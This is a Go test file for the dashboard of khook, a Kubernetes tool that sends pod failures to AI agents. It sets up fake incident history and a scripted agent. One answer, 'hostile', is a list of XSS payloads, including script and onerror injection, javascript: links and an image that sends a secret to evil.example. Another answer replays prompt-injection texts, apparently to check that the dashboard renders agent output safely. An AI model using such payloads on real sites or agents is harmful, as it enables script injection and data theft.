package dashboard

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/kagent-dev/khook/api/v1alpha2"
	"github.com/kagent-dev/khook/internal/agent/kagenttest"
	"github.com/kagent-dev/khook/internal/api"
	"github.com/kagent-dev/khook/internal/delivery"
	"github.com/kagent-dev/khook/internal/incident"
	"github.com/kagent-dev/khook/internal/store"
	"github.com/kagent-dev/khook/test/injections"
)

// scene is a khook with something of everything that the page shows: a day of history, failures that go on, an agent that
// has helped, one that asks, one that wants an approval, and one that works.
type scene struct {
	*khook
	testing.TB
	agent *kagenttest.Server
	dir   string
	admin string // where a proxy shows khook to somebody who may do everything
}

// The namespaces of the scene.
const (
	shop     = "shop"
	payments = "payments"
)

const goodAnswer = `## Finding

Container **app** needs about 410 MiB when the cart is rebuilt, and its limit is 256 MiB:

| time | working set |
| --- | --- |
| 10:02 | 251 MiB |
| 10:03 | killed |

1. I read the memory profile of ` + "`cart-7d4b9c`" + `.
2. I raised the limit to 512 MiB.

` + "```yaml\nresources:\n  limits:\n    memory: 512Mi\n```" + `

See [the runbook](https://runbooks.example/memory) for the background.
`

// hostile is an answer that tries to become more than text.
var hostile = strings.Join([]string{
	"<script>window.owned = 1</script>", "<img src=x onerror=\"window.owned = 2\">", "[a](javascript:window.owned=3)", "![x](http://evil.example/?q=secret)",
	"<svg onload=window.owned=4>", "[b](data:text/html;base64,PHNjcmlwdD4=)", "safe \u202egnp.exe\u202c and in\u200bvisible", "[https://good.example](https://evil.example)", "`<b>code</b>`",
}, "\n\n")

// answers is what the sample agent does, by the name of the workload.
func answers(m kagenttest.Message) kagenttest.Act {
	usage := map[string]any{"promptTokenCount": 1840, "candidatesTokenCount": 265, "totalTokenCount": 2105}
	switch {
	case m.Reply:
		return kagenttest.Act{Answer: "Thank you. Done as you said.", Usage: usage}
	case strings.Contains(m.Text, "Deployment/cart"):
		return kagenttest.Act{Work: time.Second, Chunks: []string{goodAnswer[:80], goodAnswer[80:]}, Each: 500 * time.Millisecond, Usage: usage}
	case strings.Contains(m.Text, "Deployment/checkout"):
		return kagenttest.Act{Approve: "k8s_patch_resource"}
	case strings.Contains(m.Text, "Deployment/ledger"):
		return kagenttest.Act{Ask: "Two replicas disagree about the last block. Which one may I restart: **ledger-0** or **ledger-1**?"}
	case strings.Contains(m.Text, "Deployment/indexer"):
		return kagenttest.Act{Never: true, Usage: usage}
	case strings.Contains(m.Text, "Deployment/web"):
		return kagenttest.Act{Answer: hostile}
	case strings.Contains(m.Text, "Deployment/imports"):
		var short []string
		for _, text := range injections.All() {
			short = append(short, text[:min(len(text), 2000)])
		}
		return kagenttest.Act{Answer: strings.ToValidUTF8(strings.Join(short, "\n\n"), "?")}
	}
	return kagenttest.Act{Work: time.Second, Answer: "I looked at the last log lines: the process ends because it can't reach **its database**. I changed nothing.", Usage: usage}
}

// newScene starts khook on a history of a day, and lets Pods fail.
func newScene(t testing.TB) *scene {
	t.Helper()
	s := &scene{TB: t, dir: t.TempDir()}
	s.agent = kagenttest.New(t, kagenttest.Options{Cancels: true, Script: answers})
	s.history()
	s.hooks()
	s.khook = startKhook(t, "--kagent-url", s.agent.URL, "--database", filepath.Join(s.dir, "khook.db"), "--stabilization", "2s", "--verify-window", "20s")
	s.admin = authenticatingProxy(t, s.url)
	return s
}

// hooks makes the namespaces and the Hooks of the scene, unless a test before has.
func (s *scene) hooks() {
	s.Helper()
	for ns, configs := range map[string][]v1alpha2.EventConfiguration{
		shop:     {config("oom-kill", "kagent/memory-analyzer", "memory"), config("pod-restart", "kagent/restart-doctor", "restarts"), config("pod-pending", "kagent/scheduler-sage", "pending")},
		payments: {config("oom-kill", "kagent/memory-analyzer", "memory"), config("pod-restart", "kagent/restart-doctor", "restarts")},
	} {
		hook := &v1alpha2.Hook{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: ns}}
		hook.Spec.EventConfigurations = configs
		limit := int32(30)
		hook.Spec.MaxCallsPerHour = &limit
		_ = testCluster.client.Create(s.Context(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}})
		_ = testCluster.client.Create(s.Context(), hook)
	}
	suspended := &v1alpha2.Hook{ObjectMeta: metav1.ObjectMeta{Namespace: shop, Name: "probes"}}
	suspended.Spec.EventConfigurations, suspended.Spec.Suspend = []v1alpha2.EventConfiguration{config("probe-failed", "kagent/restart-doctor", "probes")}, true
	_ = testCluster.client.Create(s.Context(), suspended)
}

func config(eventType, agent, name string) v1alpha2.EventConfiguration {
	return v1alpha2.EventConfiguration{
		Name: name, EventType: eventType, AgentId: &agent,
		Prompt: "{{.EventType}} of {{.Workload}} in {{.Namespace}}: {{.EventMessage}}.\nFind out why, mend it if you can, and say what you did.",
	}
}

// history records a day: what failed, what the agents did, and what became of it.
func (s *scene) history() {
	s.Helper()
	st, err := store.Open(s.Context(), store.Config{Path: filepath.Join(s.dir, "khook.db")})
	if err != nil {
		s.Fatal(err)
	}
	defer st.Close()
	rnd := rand.New(rand.NewPCG(7, 7))
	c := &store.Changes{}
	err = st.WriteRelaxed(s.Context(), func(tx *store.Tx) error {
		for n := range 140 {
			past(tx, c, rnd, n, time.Now().UTC().Add(-24*time.Hour+time.Duration(n)*10*time.Minute))
		}
		return tx.Save(s.Context(), c)
	})
	if err != nil {
		s.Fatal(err)
	}
	for _, inc := range c.Incidents {
		inc.Resolve(incident.Recovered, inc.FirstSeen.Add(time.Duration(30+rnd.IntN(400))*time.Second))
	}
	err = st.WriteRelaxed(s.Context(), func(tx *store.Tx) error { return tx.Save(s.Context(), &store.Changes{Incidents: c.Incidents}) })
	if err != nil {
		s.Fatal(err)
	}
}

// past is one incident of the day before: its event, its decision, its call and its outcome.
func past(tx *store.Tx, c *store.Changes, rnd *rand.Rand, n int, at time.Time) {
	workloads := []string{"cart", "checkout", "search", "inventory", "web", "mailer", "reports", "thumbnails"}
	agents := map[incident.EventType]string{incident.OOMKill: "memory-analyzer", incident.PodRestart: "restart-doctor", incident.PodPending: "scheduler-sage", incident.ProbeFailed: "restart-doctor"}
	workload, kind := workloads[rnd.IntN(len(workloads))], incident.EventTypes()[rnd.IntN(4)]
	told := map[incident.EventType][2]string{
		incident.OOMKill: {"OOMKilled", "Container app was OOM-killed (exit code 137)"}, incident.PodRestart: {"Error", "Container app restarted (restart 3): it had ended with exit code 1 (Error)"},
		incident.PodPending:  {"Unschedulable", "0/6 nodes are available: 6 Insufficient memory"},
		incident.ProbeFailed: {"Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 503"},
	}[kind]
	ns := shop
	if n%4 == 0 {
		ns = payments
	}
	sig := &incident.Signal{Key: fmt.Sprint("past ", n), Kind: incident.Observed, Type: kind, At: at, Count: 1, Observation: incident.Observation{
		Resource: incident.Resource{Kind: "Pod", Namespace: ns, Name: fmt.Sprintf("%s-7d4b9c-%05d", workload, n), UID: fmt.Sprint("past-", n)},
		Workload: incident.Workload{Kind: "Deployment", Name: workload}, Container: "app", Node: fmt.Sprint("node-", rnd.IntN(6)), Reason: told[0], Message: told[1],
		Attributes: incident.Attributes{Pod: &incident.PodAttributes{RestartCount: int32(rnd.IntN(5)), Labels: map[string]string{"app": workload}}},
	}}
	inc := incident.Open(incident.Origin{}, sig)
	ev := incident.NewEvent(inc, sig, at)
	ev.ID = tx.NextEvent()
	took := time.Duration(30+rnd.IntN(400)) * time.Second
	hook := delivery.HookRef{Namespace: ns, Name: ns}
	decision := delivery.Decision{EventID: ev.ID, IncidentID: inc.ID, Hook: hook, Config: string(kind), Disposition: delivery.Duplicate, At: at}
	if n%3 != 0 {
		d := &delivery.Delivery{
			ID: incident.DeriveID("past", fmt.Sprint(n)), State: delivery.Succeeded, Hook: hook, Config: string(kind), EventType: kind, Group: "Deployment/" + workload, Workload: "Deployment/" + workload,
			Agent: delivery.AgentRef{Namespace: "kagent", Name: agents[kind]}, IncidentID: inc.ID, Prompt: string(kind) + " of Deployment/" + workload + ": ⟦" + told[1] + "⟧", Timeout: time.Hour, Attempt: 1,
			CreatedAt: at, NextAt: at, CalledAt: at.Add(time.Second), EndedAt: at.Add(took / 2), Answer: goodAnswer, Outcome: delivery.OutcomeRecovered, RecoveredAt: at.Add(took), OutcomeAt: at.Add(took),
			Usage: delivery.Usage{Total: 2000 + int64(n), Prompt: 1700, Completion: 300 + int64(n)},
		}
		switch {
		case n%7 == 0:
			d.Outcome, d.RecoveredAt = delivery.OutcomePersisting, time.Time{}
		case n%11 == 0:
			d.State, d.Outcome, d.Answer, d.Failure = delivery.Failed, delivery.OutcomeUnknown, "", "the agent's task failed"
		}
		decision.Disposition, decision.DeliveryID = delivery.Delivered, d.ID
		c.Deliveries = append(c.Deliveries, d)
	}
	c.Events, c.Incidents, c.Decisions = append(c.Events, ev), append(c.Incidents, inc), append(c.Decisions, decision)
}

// play lets Pods fail, and waits until khook and its agents have come as far as the tests need.
func (s *scene) play() {
	s.Helper()
	for _, w := range []struct{ ns, name, reason string }{
		{shop, "cart", "OOMKilled"}, {shop, "checkout", "OOMKilled"}, {shop, "indexer", "Error"}, {shop, "web", "Error"}, {payments, "ledger", "Error"}, {payments, "inventory", "Error"}, {payments, "imports", "Error"},
	} {
		p := s.pod(w.ns, w.name, w.name+"-6c9f-x2x9k")
		s.status(p, 1, w.reason, true)
	}
	eventually(s, "questions wait, and answers are there", func() error {
		inbox := read[api.Inbox](s, "/inbox")
		if len(inbox.Items) < 2 {
			return fmt.Errorf("%d wait", len(inbox.Items))
		}
		for group, want := range map[string]delivery.State{"Deployment/cart": delivery.Succeeded, "Deployment/web": delivery.Succeeded, "Deployment/inventory": delivery.Succeeded, "Deployment/imports": delivery.Succeeded, "Deployment/indexer": delivery.Working} {
			if d := s.delivery(group); d.State != want {
				return fmt.Errorf("%s is %s", group, d.State)
			}
		}
		return nil
	})
	s.recover(shop, "cart-6c9f-x2x9k")
}

// delivery is the newest one of a group.
func (s *scene) delivery(group string) (newest api.Delivery) {
	for _, d := range read[api.Page[api.Delivery]](s, "/deliveries?limit=200").Items {
		if d.Group == group {
			return d
		}
	}
	return newest
}

// read asks the API.
func read[T any](s *scene, path string) (v T) {
	s.Helper()
	resp, err := http.Get(s.admin + prefix + "/api/v1" + path)
	if err != nil {
		s.Fatal(err)
	}
	defer resp.Body.Close()
	if err := json.NewDecoder(resp.Body).Decode(&v); err != nil || resp.StatusCode != http.StatusOK {
		s.Fatalf("%s: %s, %v", path, resp.Status, err)
	}
	return v
}

// pod makes a Pod of a Deployment, bound to a node that nobody runs: the test plays the kubelet.
func (s *scene) pod(ns, deployment, name string) *corev1.Pod {
	s.Helper()
	yes := true
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{
			Namespace: ns, Name: name, Labels: map[string]string{"app": deployment, "pod-template-hash": "6c9f"},
			OwnerReferences: []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: deployment + "-6c9f", UID: types.UID("u-" + deployment), Controller: &yes}},
		},
		Spec: corev1.PodSpec{NodeName: "node-3", Containers: []corev1.Container{{Name: "app", Image: "app:1"}}},
	}
	if err := testCluster.client.Create(s.Context(), p); err != nil {
		s.Fatal(err)
	}
	s.Cleanup(func() { _ = testCluster.client.Delete(context.Background(), p) })
	return p
}

// status writes the Pod's status: its container was restarted so often for a reason, and waits for the next time or runs.
func (s *scene) status(p *corev1.Pod, restarts int32, reason string, waits bool) {
	s.Helper()
	now, yes := metav1.Now(), true
	st := corev1.ContainerStatus{
		Name: "app", Image: "app:1", Ready: !waits, Started: &yes, RestartCount: restarts, ContainerID: fmt.Sprintf("containerd://%s-%d", p.UID, restarts),
		State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{StartedAt: now}},
	}
	if restarts > 0 {
		code := map[string]int32{"OOMKilled": 137, "Error": 1}[reason]
		st.LastTerminationState.Terminated = &corev1.ContainerStateTerminated{
			ExitCode: code, Reason: reason, FinishedAt: metav1.NewTime(now.Add(-time.Second)), StartedAt: metav1.NewTime(now.Add(-time.Minute)), ContainerID: fmt.Sprintf("containerd://%s-%d", p.UID, restarts-1),
		}
	}
	ready := corev1.ConditionTrue
	if waits {
		st.State, ready = corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}}, corev1.ConditionFalse
	}
	p.Status = corev1.PodStatus{Phase: corev1.PodRunning, ContainerStatuses: []corev1.ContainerStatus{st}, Conditions: []corev1.PodCondition{{Type: corev1.PodReady, Status: ready}}}
	if err := testCluster.client.Status().Update(s.Context(), p); err != nil {
		s.Fatal(err)
	}
}

// recover lets a Pod be well.
func (s *scene) recover(ns, name string) {
	s.Helper()
	p := &corev1.Pod{}
	if err := testCluster.client.Get(s.Context(), types.NamespacedName{Namespace: ns, Name: name}, p); err != nil {
		s.Fatal(err)
	}
	s.status(p, p.Status.ContainerStatuses[0].RestartCount, "OOMKilled", false)
}
